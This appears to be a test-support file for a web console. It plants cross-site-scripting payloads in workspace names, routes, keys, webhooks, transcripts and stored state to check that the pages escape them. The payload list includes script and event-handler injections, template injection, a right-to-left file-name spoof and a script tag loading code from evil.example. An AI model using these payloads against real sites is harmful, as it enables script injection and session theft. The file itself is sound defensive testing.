import { join } from 'node:path'
import { pino } from 'pino'
import type { Test } from 'tap'
import { openEmbeddedState } from '../../src/gateway/state/embedded/state.ts'
import { type ConsoleNode, startConsoleNode, type Told, type Visitor } from '../support/console-node.ts'
import { nodeSample, requestRecord } from '../support/console-record.ts'
import { serveHttp } from '../support/http-server.ts'
import { claimingOf, FACTS, KEEP, specOf } from '../support/jobs-under-test.ts'
import { filledWav } from '../support/wav.ts'

/** What every payload calls when it is run: `window.__pwned` is then what ran. */
const RUN = (name: string) => `window.__pwned='${name}'`

/**
 * Texts that are a script, or a way out of a text, wherever somebody takes them for markup, an address, a template or a
 * piece of a program. None has a control character: those are in `CONTROLS`.
 */
export const PAYLOADS: readonly string[] = [
  `<img src=x onerror=${RUN('img')}>`,
  `"><script>${RUN('script')}</script>`,
  `'"--></title></style></textarea></template><svg onload=${RUN('svg')}>`,
  `javascript:${RUN('url')}//`,
  `data:text/html,<script>${RUN('data')}</script>`,
  `\${${RUN('template')}}{{constructor.constructor("${RUN('braces')}")()}}`,
  `<\${x}><//>\`+${RUN('tick')}+\``,
  `\u202e<b onclick=${RUN('rtl')}>gpj.exe\u202c\u2066\u200b`,
  `<iframe srcdoc="<script>parent.${RUN('frame')}</script>">`,
  `</script><script src=https://evil.example/x.js></script>`,
  `<a href="//evil.example" style="position:fixed;inset:0">${'&lt;i&gt;'}</a>`,
  `__proto__`,
]

/** Where control characters are taken. */
export const CONTROLS = `\u0000\u0007\u001b[31m\u2028\u2029\ufeff${PAYLOADS[0]}`

/** All of them in one. */
export const ALL_PAYLOADS = PAYLOADS.join(' ')

export interface ScriptedWorkspace {
  readonly node: ConsoleNode
  /** Keys whose names are payloads, too. */
  readonly keys: { readonly operator: string; readonly admin: string }
  /** Paths of pages about one thing, below `/console/acme`. */
  readonly pages: readonly string[]
  /** Tries to put a payload somewhere that were refused. */
  readonly refused: readonly string[]
}

type Fields = Readonly<Record<string, unknown>>

/** A provider that says nothing but payloads: its models, its errors and its transcripts. */
async function serveScripts(t: Test): Promise<string> {
  const origin = await serveHttp(t, (request, response) => {
    request.resume()
    const failed = (request.headers['x-lk-request-id'] ?? '').includes('fail')
    request.on('end', () => {
      const text = ALL_PAYLOADS
      const error = { message: text, type: text, code: text, param: text }
      const data = PAYLOADS.map((id) => ({ id, object: 'model', owned_by: id }))
      const words = PAYLOADS.map((word, index) => ({ word, start: index, end: index + 1 }))
      const segments = [{ id: 0, start: 0, end: 9, text, speaker: text }]
      const isList = request.method === 'GET'
      response.writeHead(failed ? 400 : 200, { 'content-type': 'application/json', 'x-request-id': 'x' })
      const heard = { text, language: 'en', duration: 12, words, segments }
      response.end(JSON.stringify(failed ? { error } : isList ? { object: 'list', data } : heard))
    })
  })
  return `${origin}/v1`
}

/** Names of keys and workspaces hold nothing that turns a text around. */
const PLAIN_NAME = ALL_PAYLOADS.replaceAll(/[\u202a-\u202e\u2066-\u2069]/g, '')

/** A node whose workspace `acme` has a payload in every text that somebody can set, send or have sent. */
export async function startScriptedWorkspace(t: Test): Promise<ScriptedWorkspace> {
  const upstream = await serveScripts(t)
  const node = await startConsoleNode(t, {
    config: (config) => scripted(config, upstream),
    env: { LARKWAY_JOBS: '0' },
  })
  const refused: string[] = []
  const tried = (told: Told): Told => {
    if (told.status >= 400) refused.push(`${told.status} ${told.text}`)
    return told
  }
  const operator = await node.signIn(node.keys.operator)
  const keyed = async (scopes: readonly string[]) => {
    const made = await operator.post('/workspaces/acme/keys', { name: PLAIN_NAME, app: 'web', scopes })
    return String(made.body.key)
  }
  const keys = { operator: await keyed(['operator']), admin: await keyed(['admin']) }
  const scribe = await node.signIn(keys.operator)
  await plantParts(scribe, upstream, tried)
  await plantCalls(node)
  const jobs = await plantState(t, node)
  const pages = [
    ...['voice', 'acme.served', 'acme.draft', 'acme.odd'].map((route) => `/routes/${route}`),
    ...jobs.map((id) => `/jobs/${id}`),
    ...PAYLOADS.map((id) => `/requests/${encodeURIComponent(id)}`),
  ]
  return { node, keys, pages, refused }
}

function scripted(config: Fields, upstream: string): Fields {
  const { providers, routes, workspaces } = config as Readonly<
    Record<string, Readonly<Record<string, Fields>>>
  >
  const own = { kind: 'openai-compatible', access: 'byok', workspace: 'acme', base_url: upstream }
  const entries = PAYLOADS.slice(0, 3).map((model) => ({ ...entryOf('acme-own'), model }))
  const acme = workspaces?.acme as { keys: readonly Fields[] } & Fields
  return {
    ...config,
    providers: { ...providers, 'acme-own': own },
    routes: { ...routes, voice: { workspace: 'acme', entries } },
    workspaces: {
      ...workspaces,
      acme: {
        ...acme,
        name: ALL_PAYLOADS,
        grant_id: PAYLOADS[0]!.slice(0, 64),
        purposes: { notes: { description: ALL_PAYLOADS } },
        keys: acme.keys.map((key) => ({ ...key, name: ALL_PAYLOADS })),
      },
    },
  }
}

function entryOf(provider: string): Fields {
  return {
    provider,
    model: PAYLOADS[0],
    capabilities: ['text', 'audio_input'],
    features: ['word_timestamps'],
  }
}

/** By the console itself, as an operator whose name is a payload. */
async function plantParts(operator: Visitor, upstream: string, tried: (told: Told) => Told): Promise<void> {
  const W = '/workspaces/acme'
  const limits = { voices: [...PAYLOADS], speech_formats: [...PAYLOADS] }
  await operator.put(`${W}/providers/acme.own`, { kind: 'openai-compatible', base_url: upstream, limits })
  const voices = Object.fromEntries(PAYLOADS.map((voice) => [voice, voice]))
  const draft = (route: string, fields: Fields, revision: number | null = null) =>
    operator.put(`${W}/routes/${route}/draft`, { fields, revision })
  const entries = PAYLOADS.map((model) => ({ ...entryOf('acme.own'), model, voices }))
  for (const weight of [1, 2]) {
    const { body } = tried(
      await draft('acme.served', { entries: entries.map((entry) => ({ ...entry, weight })) }),
    )
    tried(
      await operator.post(`${W}/routes/acme.served/publish`, { revision: (body.draft as Fields).revision }),
    )
  }
  tried(await draft('acme.served', { entries: entries.slice(1), strategy: 'weighted' }))
  const odd = Object.fromEntries(PAYLOADS.map((name) => [name, name]))
  tried(
    await draft('acme.draft', {
      ...odd,
      strategy: ALL_PAYLOADS,
      entries: PAYLOADS.map((name) => ({
        provider: name,
        model: name,
        options: odd,
        purposes: [name],
        [name]: name,
      })),
    }),
  )
  tried(
    await draft('acme.odd', {
      entries: [PAYLOADS[0], 7, null, { provider: { a: PAYLOADS[1] }, model: [PAYLOADS[2]] }],
      published: CONTROLS,
    }),
  )
  tried(await operator.put(`${W}/purposes/scripts`, { description: CONTROLS + ALL_PAYLOADS, enabled: true }))
  tried(
    await operator.put(`${W}/apps/scripts`, { route: 'acme.served', purposes: { scripts: 'acme.served' } }),
  )
  for (const name of PAYLOADS) {
    const made = tried(await operator.post(`${W}/keys`, { name, app: 'scripts' }))
    if (name === PAYLOADS[0]) tried(await operator.delete(`${W}/keys/${made.body.id}`))
  }
  const hook = "https://hooks.example.org/javascript:window.__pwned=1?onerror=window.__pwned='hook'&x={{7*7}}"
  tried(await operator.put(`${W}/webhook`, { url: hook }))
  tried(
    await operator.put(`${W}/audio-url-domains`, { domains: ['xn--bcher-kva.example.net', '*.example.net'] }),
  )
  tried(await operator.put(`${W}/content`, { shown: true }))
  tried(
    await operator.post(`${W}/credits`, { amount_usd: 1, grant_id: '<img/src=x/onerror=window.__pwned=1>' }),
  )
  tried(await operator.put('/workspaces/scripted', { name: PLAIN_NAME }))
  tried(await operator.put('/providers/scripted', { kind: 'openai-compatible', base_url: upstream, limits }))
  // What is not to be had is tried all the same: a refusal says the name again.
  for (const name of PAYLOADS) {
    const part = encodeURIComponent(name)
    tried(await operator.put(`${W}/apps/${part}`, { route: name }))
    tried(await operator.put(`${W}/purposes/${part}`, { description: name }))
    tried(await operator.put(`${W}/routes/${part}/draft`, { fields: {}, revision: null }))
    tried(await operator.put(`${W}/providers/${part}`, { kind: name }))
    tried(await operator.put(`${W}/audio-url-domains`, { domains: [name] }))
    tried(await operator.put(`/workspaces/${part}`, { name }))
  }
}

/** Calls of an application that names everything after a payload. */
async function plantCalls({ url, keys }: ConsoleNode): Promise<void> {
  for (const [index, payload] of PAYLOADS.entries()) {
    const form = new FormData()
    form.set('file', new Blob([filledWav(32_044)]), `${payload}.wav`)
    form.set('purpose', index % 2 === 0 ? 'notes' : payload)
    form.set('language', payload)
    form.set('prompt', payload)
    const headers: Record<string, string> = { authorization: `Bearer ${keys.app}` }
    // fetch takes no other characters in a header.
    headers['x-lk-request-id'] = /^[\x20-\x7e]+$/.test(payload) ? payload : 'fail'
    await fetch(`${url}/v1/transcription`, { method: 'POST', headers, body: form }).then((answer) =>
      answer.text(),
    )
  }
}

/** What the state keeps, as if a provider, a node or an old version had said it. @returns ids of jobs */
async function plantState(t: Test, { dataFolder }: ConsoleNode): Promise<string[]> {
  const log = pino({ level: 'silent' })
  const state = await openEmbeddedState({ file: join(dataFolder, 'state.sqlite'), log })
  t.teardown(() => state.close())
  const atMs = Date.now()
  const attempts = PAYLOADS.map((text) => ({
    provider: text,
    model: text,
    status: 500,
    milliseconds: 5,
    reason: text,
  }))
  const requests = PAYLOADS.map((text, index) => {
    const named = { id: text, app: text, keyId: text, method: text, path: text, error: text, route: text }
    const usage = { [text]: 1 }
    const more = { policyVersionId: text, jobId: text, status: 500, attempts, usage, atMs: atMs - index }
    return requestRecord('acme', { ...named, ...more })
  })
  await state.console.requests.add('scripts', requests)
  const breakers = PAYLOADS.map((text) => {
    return { workspace: 'acme', route: text, provider: text, model: text, state: 'open' } as const
  })
  const upstream = PAYLOADS.map((provider) => ({ provider, calls: 3, failed: 1, p50Ms: 5, p95Ms: 9 }))
  const calls = { requests: 9, errors: 3, addedP50Ms: 1, addedP95Ms: 2, upstream }
  for (const ageMs of [30_000, 20_000, 10_000, 5_000])
    await state.console.samples.add(
      nodeSample(ALL_PAYLOADS, atMs - ageMs, {
        breakers,
        all: calls,
        workspaces: [{ ...calls, workspace: 'acme' }],
      }),
      3_600_000,
    )
  const { jobs, outbox } = state
  const named = { app: ALL_PAYLOADS, keyId: PAYLOADS[0]!, requestId: PAYLOADS[1]! }
  const words = PAYLOADS.map((word, index) => ({ word, start: index, end: index + 1, speaker: word }))
  const segments = [{ id: 0, start: 0, end: 9, text: ALL_PAYLOADS, speaker: PAYLOADS[0] }]
  const text = JSON.stringify({ text: ALL_PAYLOADS, language: PAYLOADS[0], words, segments })
  const facts = { ...FACTS, policy_version_id: PAYLOADS[2]! }
  const error = {
    code: 'UPSTREAM_ERROR',
    message: ALL_PAYLOADS,
    param: PAYLOADS[0]!,
    details: { attempts },
  } as const
  const failed = specOf('acme', { ...named, endpoint: PAYLOADS[0]! as 'chat' })
  const heard = specOf('acme', { ...named, kind: 'transcription' })
  for (const spec of [failed, heard]) {
    await jobs.submit({ spec, slot: null })
    const [claimed] = await jobs.claim(claimingOf())
    if (claimed === undefined) throw new Error('no job is waiting')
    const ending =
      spec === failed
        ? ({ state: 'failed', error, facts } as const)
        : ({ state: 'succeeded', result: { text }, facts } as const)
    await jobs.end(spec.id, claimed.job.fence, ending, KEEP)
  }
  const [event] = await outbox.claim({ limit: 1, leaseMs: 60_000, perWorkspace: 16, perAiling: 4 })
  if (event !== undefined)
    await outbox.end(event, { state: 'given_up', reason: ALL_PAYLOADS, keepMs: 3_600_000 })
  return [failed.id, heard.id]
}
